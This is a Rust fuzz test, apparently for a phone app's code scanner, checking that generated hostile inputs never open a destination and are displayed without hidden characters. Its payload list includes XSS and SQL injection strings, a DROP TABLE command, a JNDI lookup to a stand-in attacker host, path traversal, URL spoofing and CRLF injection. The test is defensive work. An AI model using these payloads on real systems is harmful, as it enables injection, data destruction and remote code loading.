//! What a code may hold to do harm: 100,000 texts made to mislead, none of which leads anywhere.

use domain::visit::Choice;
use field::view::CodeOutcome;
use kit::camera::Chance;
use regex::Regex;

use crate::desk::Desk;

const TEXTS: usize = 100_000;
/// The longest text on screen: 200 characters, each at most as long as `⟨10FFFF⟩`, and the note of what was cut.
const LONGEST_SHOWN: usize = 200 * 8 + 20;

/// Pieces that something which opens, runs, asks or splits what it is given would stumble over.
const HOSTILE: [&str; 28] = [
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "intent://scan/#Intent;scheme=zxing;end",
    "tel:0900123",
    "smsto:0900123:yes",
    "WIFI:S:guest;T:WPA;P:12345678;;",
    "http://127.0.0.1:5984/",
    "https://id.marrowby.example@evil.example/i/LT-2041",
    "https://id.marrowby.example.evil.example/i/LT-2041",
    "https://id.marrowby.example/i/../i/LT-2041",
    "https://id.marrowby.example/i/LT-2041%00",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' OR 1=1 --",
    "'); DROP TABLE code; --",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../headmark.db",
    "\u{202E}1402-TL",
    "\u{2067}LT-2041\u{2069}",
    "\u{200B}LT-2041",
    "L\u{0422}-2041",
    "א123ב",
    "\u{0}\u{7}\u{1b}[2J",
    "\r\nSet-Cookie: a=b",
];

fn payload(chance: &mut Chance) -> String {
    let mut text = String::new();
    let pieces = 1 + chance.bits() % 4;
    for _ in 0..pieces {
        match chance.bits() % 4 {
            0 | 1 => text.push_str(HOSTILE[chance.bits() as usize % HOSTILE.len()]),
            2 => (0..chance.bits() % 20).for_each(|_| text.push(any(chance))),
            _ => (0..chance.bits() % 20).for_each(|_| text.push(control(chance))),
        }
    }
    // As long as the largest code can hold, now and then.
    if chance.bits().is_multiple_of(50) {
        text = text.repeat(4_096 / text.len().max(1) + 1);
        let end = (0..=4_096).rev().find(|end| text.is_char_boundary(*end)).unwrap();
        text.truncate(end);
    }
    text
}

fn any(chance: &mut Chance) -> char {
    char::from_u32(chance.bits() % 0x11_0000).unwrap_or('\u{FFFD}')
}

/// A character that shows as nothing or turns what stands beside it.
fn control(chance: &mut Chance) -> char {
    const RANGES: [(u32, u32); 6] =
        [(0, 0x20), (0x7f, 0xa0), (0x200b, 0x2010), (0x2028, 0x202f), (0x2060, 0x2070), (0xe0000, 0xe0080)];
    let (from, to) = RANGES[chance.bits() as usize % RANGES.len()];
    char::from_u32(from + chance.bits() % (to - from)).unwrap()
}

#[test]
fn no_text_leads_anywhere_and_each_is_shown_safely() {
    let desk = Desk::ready();
    // The Unicode character database's own classes, from a public library.
    let hidden = Regex::new(r"[\p{Cc}\p{Co}\p{Zl}\p{Zp}\p{Bidi_Control}\p{Default_Ignorable_Code_Point}]");
    let hidden = hidden.unwrap();
    let mut chance = Chance::from(44);
    for at in 0..TEXTS {
        let text = payload(&mut chance);
        let outcome = desk.phone.find_code(&text).unwrap();
        let CodeOutcome::Unknown { code, .. } = outcome else { panic!("{text:?} led to {outcome:?}") };
        assert!(!hidden.is_match(&code), "{text:?} is shown as {code:?}");
        assert!(code.chars().count() <= LONGEST_SHOWN, "{text:?} is shown as {code:?}");
        // Kept with a visit, each byte of it, though what was shown is not it.
        if at % 100 == 0 && !text.trim().is_empty() {
            let visit = desk.phone.visit_begin("LT-2041", Choice::ByTyping, &code).unwrap();
            assert!(kept(&desk, text.trim()), "{at}: {} bytes are not kept: {code}", text.len());
            desk.phone.visit_discard(&visit.id).unwrap();
        }
    }
}

/// Whether the one open visit holds a text, whole, as data.
fn kept(desk: &Desk, text: &str) -> bool {
    desk.phone.suspend().unwrap();
    let store = store::Opening::at(desk.folder.path().join("headmark.db")).open().unwrap();
    let drafts = store.drafts().unwrap();
    let [draft] = drafts.as_slice() else { panic!("{} visits are open", drafts.len()) };
    has(&serde_json::from_str(&draft.body).unwrap(), text)
}

fn has(value: &serde_json::Value, text: &str) -> bool {
    match value {
        serde_json::Value::String(found) => found == text,
        serde_json::Value::Array(values) => values.iter().any(|value| has(value, text)),
        serde_json::Value::Object(values) => values.values().any(|value| has(value, text)),
        _ => false,
    }
}
